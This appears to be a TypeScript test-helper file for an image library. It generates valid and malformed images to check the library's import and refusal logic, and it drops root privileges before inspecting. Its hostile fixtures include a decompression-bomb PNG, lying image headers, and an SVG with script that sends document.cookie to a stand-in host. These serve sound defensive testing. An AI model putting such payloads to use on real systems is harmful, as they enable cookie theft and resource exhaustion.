import { spawn } from 'node:child_process'
import { mkdir, writeFile } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { pathToFileURL } from 'node:url'
import { deflateSync, crc32 } from 'node:zlib'
import sharp from 'sharp'
import { inspectFile } from '../../electron/core/library/inspect'
import type { AssetInfo } from '../../electron/core/library/types'

/** The conventional unprivileged account (`nobody`/`nogroup`) on Linux and macOS. */
export const UNPRIVILEGED_ID = 65534

const REPO_ROOT = resolve(__dirname, '..', '..')

/**
 * inspectFile as a user whom file modes apply to. Root reads a file whatever its mode, so under root
 * (CI containers) the inspection runs in a child process that loads the code as root, then drops its
 * uid and gid to UNPRIVILEGED_ID before it reads: the checkout may sit where only root can enter (a
 * 0700 folder, root's home), and only the files and the folders above them must let that user in.
 * Everyone else inspects in this process. Returns one AssetInfo per path, in order, and `how` says
 * which way ran.
 */
export async function inspectWithoutPrivileges(paths: readonly string[]): Promise<{ infos: AssetInfo[]; how: 'in-process' | 'dropped-privileges' }> {
  if (process.getuid?.() !== 0) return { infos: await Promise.all(paths.map((p) => inspectFile(p))), how: 'in-process' }
  const module = pathToFileURL(join(REPO_ROOT, 'electron', 'core', 'library', 'inspect.ts')).href
  const script = [
    `const m = await import(${JSON.stringify(module)})`,
    'const inspect = m.inspectFile ?? m.default.inspectFile',
    `process.setgroups([${UNPRIVILEGED_ID}])`,
    `process.setgid(${UNPRIVILEGED_ID})`,
    `process.setuid(${UNPRIVILEGED_ID})`,
    'if (process.getuid() === 0 || process.getgid() === 0) throw new Error("privileges were not dropped")',
    'const infos = []',
    'for (const p of JSON.parse(process.env.PIXDESK_INSPECT_PATHS)) infos.push(await inspect(p))',
    'process.stdout.write(JSON.stringify(infos))'
  ].join('\n')
  const child = spawn(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script], {
    cwd: REPO_ROOT,
    env: { ...process.env, PIXDESK_INSPECT_PATHS: JSON.stringify(paths) },
    stdio: ['ignore', 'pipe', 'pipe']
  })
  let out = ''
  let err = ''
  child.stdout.on('data', (d: Buffer) => (out += d.toString()))
  child.stderr.on('data', (d: Buffer) => (err += d.toString()))
  const code = await new Promise<number | null>((done, fail) => {
    child.on('error', fail)
    child.on('close', done)
  })
  if (code !== 0) {
    throw new Error(
      `Inspecting as uid ${UNPRIVILEGED_ID} failed (exit ${code}): ${err.trim().slice(0, 800)}. That user needs read access to ` +
        `the folders holding the test files.`
    )
  }
  return { infos: JSON.parse(out) as AssetInfo[], how: 'dropped-privileges' }
}

/** Upright reference picture: four coloured quadrants on a landscape canvas, so any wrong turn shows. */
export const BASE_W = 96
export const BASE_H = 64

export async function uprightImage(): Promise<Buffer> {
  const w = BASE_W
  const h = BASE_H
  const raw = Buffer.alloc(w * h * 3)
  for (let y = 0; y < h; y++) {
    for (let x = 0; x < w; x++) {
      const left = x < w / 2
      const top = y < h / 2
      const [r, g, b] = top ? (left ? [230, 20, 20] : [20, 200, 20]) : left ? [20, 20, 230] : [240, 240, 240]
      raw.set([r, g, b], (y * w + x) * 3)
    }
  }
  return sharp(raw, { raw: { width: w, height: h, channels: 3 } }).png().toBuffer()
}

/** The stored pixels that, with EXIF orientation `o`, display as `upright`. */
async function storedFor(upright: Buffer, o: number): Promise<Buffer> {
  const step = (input: Buffer, f: (s: ReturnType<typeof sharp>) => ReturnType<typeof sharp>) => f(sharp(input)).png().toBuffer()
  switch (o) {
    case 2:
      return step(upright, (s) => s.flop())
    case 3:
      return step(upright, (s) => s.rotate(180))
    case 4:
      return step(upright, (s) => s.flip())
    case 5:
      return step(await step(upright, (s) => s.rotate(90)), (s) => s.flop())
    case 6:
      return step(upright, (s) => s.rotate(270))
    case 7:
      return step(await step(upright, (s) => s.rotate(90)), (s) => s.flip())
    case 8:
      return step(upright, (s) => s.rotate(90))
    default:
      return upright
  }
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4)
  len.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([len, body, crc])
}

/** A valid 1-bit greyscale PNG of the given size whose rows are all zero: tiny on disk, huge in memory. */
export function bombPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  ihdr.set([1, 0, 0, 0, 0], 8)
  const row = Math.ceil(width / 8) + 1
  const idat = deflateSync(Buffer.alloc(row * height), { level: 9 })
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))])
}

/** A GIF whose header claims one logical screen and whose single frame has another size. */
export function gifWithScreen(screenW: number, screenH: number, frameW: number, frameH: number): Buffer {
  const head = Buffer.alloc(13)
  head.write('GIF89a', 0, 'latin1')
  head.writeUInt16LE(screenW, 6)
  head.writeUInt16LE(screenH, 8)
  head[10] = 0x80 // global colour table of 2 entries
  const gct = Buffer.from([0, 0, 0, 255, 255, 255])
  const desc = Buffer.alloc(10)
  desc[0] = 0x2c
  desc.writeUInt16LE(frameW, 5)
  desc.writeUInt16LE(frameH, 7)
  // LZW minimum code size 2, then one sub-block with clear, a pixel and end-of-information codes.
  const data = Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00])
  return Buffer.concat([head, gct, desc, data, Buffer.from([0x3b])])
}

export interface GeneratedCorpus {
  dir: string
  upright: Buffer
  /** Files that must import with a thumbnail, by name, with the format detected from content. */
  valid: Record<string, { format: string; orientation?: number; alpha?: boolean; pages?: number; space?: string; bits?: number }>
  /** Files that must be refused, by name, with the error code. */
  invalid: Record<string, string>
}

/** Every format and every failure the library must handle, written into `dir` with sharp. */
export async function generateCorpus(dir: string): Promise<GeneratedCorpus> {
  await mkdir(dir, { recursive: true })
  const upright = await uprightImage()
  const put = (name: string, data: Buffer | string) => writeFile(join(dir, name), data)
  const valid: GeneratedCorpus['valid'] = {}
  const invalid: GeneratedCorpus['invalid'] = {}

  const photo = sharp(upright)
  await put('basic.png', await photo.clone().png().toBuffer())
  await put('basic.jpg', await photo.clone().jpeg({ quality: 90 }).toBuffer())
  await put('basic.webp', await photo.clone().webp({ quality: 90 }).toBuffer())
  await put('basic.gif', await photo.clone().gif().toBuffer())
  await put('basic.avif', await photo.clone().avif({ quality: 70, effort: 0 }).toBuffer())
  await put('basic.tif', await photo.clone().tiff({ compression: 'lzw' }).toBuffer())
  Object.assign(valid, {
    'basic.png': { format: 'png' },
    'basic.jpg': { format: 'jpeg' },
    'basic.webp': { format: 'webp' },
    'basic.gif': { format: 'gif' },
    'basic.avif': { format: 'avif' },
    'basic.tif': { format: 'tiff' }
  })

  for (let o = 1; o <= 8; o++) {
    const stored = await storedFor(upright, o)
    await put(`orientation-${o}.jpg`, await sharp(stored).withMetadata({ orientation: o }).jpeg({ quality: 95 }).toBuffer())
    valid[`orientation-${o}.jpg`] = { format: 'jpeg', orientation: o }
  }

  await put('cmyk.jpg', await photo.clone().toColourspace('cmyk').jpeg({ quality: 90 }).toBuffer())
  valid['cmyk.jpg'] = { format: 'jpeg', space: 'cmyk' }
  await put('deep16.png', await photo.clone().toColourspace('rgb16').png().toBuffer())
  valid['deep16.png'] = { format: 'png', bits: 16 }
  await put('alpha.png', await photo.clone().ensureAlpha(0.5).png().toBuffer())
  valid['alpha.png'] = { format: 'png', alpha: true }
  await put('alpha.webp', await photo.clone().ensureAlpha(0.5).webp({ lossless: true }).toBuffer())
  valid['alpha.webp'] = { format: 'webp', alpha: true }
  const frames = await Promise.all([0, 90, 180].map((a) => sharp(upright).rotate(a).resize(48, 48, { fit: 'fill' }).png().toBuffer()))
  await put('animated.gif', await sharp(frames, { join: { animated: true } }).gif({ delay: [100, 100, 100], loop: 0 }).toBuffer())
  valid['animated.gif'] = { format: 'gif', pages: 3 }
  await put('animated.webp', await sharp(frames, { join: { animated: true } }).webp({ delay: [100, 100, 100], loop: 0 }).toBuffer())
  valid['animated.webp'] = { format: 'webp', pages: 3 }
  // Content decides the type: a JPEG named .png and a PNG with no extension both work.
  await put('jpeg-named.png', await photo.clone().jpeg().toBuffer())
  valid['jpeg-named.png'] = { format: 'jpeg' }
  await put('png-no-extension', await photo.clone().png().toBuffer())
  valid['png-no-extension'] = { format: 'png' }

  await put('empty.png', Buffer.alloc(0))
  invalid['empty.png'] = 'empty_file'
  const noisy = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
    .jpeg({ quality: 90 })
    .toBuffer()
  await put('truncated.jpg', noisy.subarray(0, Math.floor(noisy.length * 0.6)))
  invalid['truncated.jpg'] = 'corrupt'
  const noisyPng = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).png().toBuffer()
  await put('truncated.png', noisyPng.subarray(0, Math.floor(noisyPng.length * 0.5)))
  invalid['truncated.png'] = 'corrupt'
  await put('notes.jpg', 'These are meeting notes, not a photo.\n')
  invalid['notes.jpg'] = 'unsupported_format'
  await put('bomb.png', bombPng(20000, 20000))
  invalid['bomb.png'] = 'too_many_pixels'
  const liar = bombPng(8, 8)
  liar.writeUInt32BE(100_000, 16)
  liar.writeUInt32BE(100_000, 20)
  liar.writeUInt32BE(crc32(liar.subarray(12, 29)), 29)
  await put('huge-header.png', liar)
  invalid['huge-header.png'] = 'too_many_pixels'
  await put('huge-screen.gif', gifWithScreen(65535, 65535, 1, 1))
  invalid['huge-screen.gif'] = 'dimension_mismatch'
  await put('frame-outside.gif', gifWithScreen(8, 8, 40, 40))
  invalid['frame-outside.gif'] = 'dimension_mismatch'
  await put(
    'script.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("https://example.invalid/"+document.cookie)</script><rect width="100" height="100"/></svg>'
  )
  invalid['script.svg'] = 'svg_refused'
  const ftyp = Buffer.alloc(32)
  ftyp.writeUInt32BE(24, 0)
  ftyp.write('ftypheic', 4, 'latin1')
  ftyp.write('mif1heic', 16, 'latin1')
  await put('phone.heic', Buffer.concat([ftyp, Buffer.alloc(200, 7)]))
  invalid['phone.heic'] = 'heic_unsupported'
  await put('iphone-named.jpg', Buffer.concat([ftyp, Buffer.alloc(200, 7)]))
  invalid['iphone-named.jpg'] = 'heic_unsupported'
  await put('layers.psd', Buffer.concat([Buffer.from('8BPS', 'latin1'), Buffer.alloc(100)]))
  invalid['layers.psd'] = 'unsupported_format'

  return { dir, upright, valid, invalid }
}
